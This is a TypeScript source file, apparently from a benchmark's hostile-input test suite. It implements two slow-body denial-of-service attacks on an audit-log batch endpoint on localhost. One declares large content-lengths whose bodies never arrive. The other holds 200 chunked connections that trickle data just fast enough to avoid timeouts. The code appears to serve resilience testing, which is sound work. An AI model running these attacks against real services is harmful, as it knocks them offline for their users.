import type { Attack } from "@/bench/hostile/attack";

/** Together they declare the size of all bodies that a process may hold. */
const DECLARED = [...Array<number>(6).fill(9_999_999), 3_900_000, 60_000, 2_000];
const SLOW_CONNECTIONS = 200;
/** Bytes per chunk and milliseconds between chunks: just above the rate at which a body counts as stalled. */
const CHUNK = { bytes: 2_000, every: 100 };
/** A body's size, a little less than a batch may have. */
const SLOW_BODY = 9_000_000;

/** Declares bodies whose rest never arrives, and opens a connection again when the server closes it. */
export async function sendStalledBodies(attack: Attack): Promise<void> {
  const open = (length: number) => {
    const socket = attack.connect(() => open(length));
    socket.write(`${head(attack)}content-length: ${length}\r\n\r\n[`);
    // The server responds before the body is complete, and waits for the rest.
    socket.once("data", () => socket.destroy());
  };
  DECLARED.forEach(open);
  attack.begin();
}

/** Sends bodies that never seem to end. */
export async function sendSlowBodies(attack: Attack): Promise<void> {
  const chunk = `${CHUNK.bytes.toString(16)}\r\n${" ".repeat(CHUNK.bytes)}\r\n`;
  const open = () => {
    const socket = attack.connect(() => {
      clearInterval(timer);
      open();
    });
    socket.write(`${head(attack)}transfer-encoding: chunked\r\n\r\n`);
    let size = 0;
    const timer = setInterval(() => {
      size += CHUNK.bytes;
      if (size < SLOW_BODY) socket.write(chunk);
      else socket.destroy();
    }, CHUNK.every);
    socket.once("data", () => socket.destroy());
  };
  for (let n = 0; n < SLOW_CONNECTIONS; n += 1) open();
  attack.begin();
}

function head({ target }: Attack): string {
  return `POST /audit_logs/events/batch HTTP/1.1\r\nhost: localhost\r\nauthorization: Bearer ${target.secret}\r\ncontent-type: application/json\r\n`;
}
